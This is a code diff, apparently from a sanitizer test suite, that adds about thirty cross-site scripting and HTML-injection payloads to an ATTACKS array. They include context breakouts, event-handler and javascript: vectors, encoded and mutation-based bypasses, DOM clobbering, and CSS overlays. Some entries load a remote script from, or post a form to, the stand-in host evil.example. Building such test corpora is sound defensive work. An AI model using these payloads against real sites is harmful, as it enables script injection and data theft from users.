@@ -82,6 +82,36 @@ export const ATTACKS = [
 <p style='color:red;}</style><script>alert(1)</script>'>x</p>
 <p style='font-family:x&quot;;background:url(//evil.example)'>x</p>
 <p style='color:/**/red;--x:url(//evil.example)'>x</p>
+<p style='list-style:url(//evil.example/x)'><p style='content:url(//evil.example/x)'>x</p>
+<p style='color:red;position:absolute;z-index:9;inset:0'>x</p>
+<p style='font-size:900px;margin:-900px;transform:scale(9)'>x</p>
+<p style="color:red&quot; onmouseover=&quot;alert(1)">x</p>
+</div></main><script>alert(1)</script>
+</div></main><form action=//evil.example/><button>Send</button></form>
+</div><div id=response><img src=x onerror=alert(1)></div>
+</style><script>alert(1)</script>
+</textarea><script>alert(1)</script>
+</title></head><body><img src=x onerror=alert(1)>
+--><script>alert(1)</script><!--
+"><script>alert(1)</script>
+'><img src=x onerror=alert(1)>
+" autofocus onfocus=alert(1) x="
+x" onerror="alert(1)
+javascript:alert(1)
+{{constructor.constructor('alert(1)')()}}
+&lt;img src=x onerror=alert(1)&gt;&#60;script&#62;alert(1)&#60;/script&#62;
+%3Cscript%3Ealert(1)%3C/script%3E
+<img src=x onerror&#61;alert(1)><img src=x onerror="&#97;lert(1)">
+<svg><set attributeName=href to=javascript:alert(1)><a id=x><text>x</text></a></svg>
+<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>
+<math><annotation-xml encoding=text/html><img src=x onerror=alert(1)></annotation-xml></math>
+<select><noscript></select><script>alert(1)</script></noscript>
+<table><td background=javascript:alert(1)><caption onclick=alert(1)>x</table>
+<img name=querySelector><a id=forms><form name=parentNode><input name=attributes></form>
+<div popover id=p onbeforetoggle=alert(1)>x</div><button popovertarget=p>x</button>
+<video src=x onerror=alert(1) autoplay></video><audio><source src=x onerror=alert(1)></audio>
+<link rel=preload as=script href=//evil.example/x.js><link rel=import href=//evil.example/>
+<portal src=//evil.example></portal><frameset onload=alert(1)><frame src=javascript:alert(1)>
 `),
 ];
 
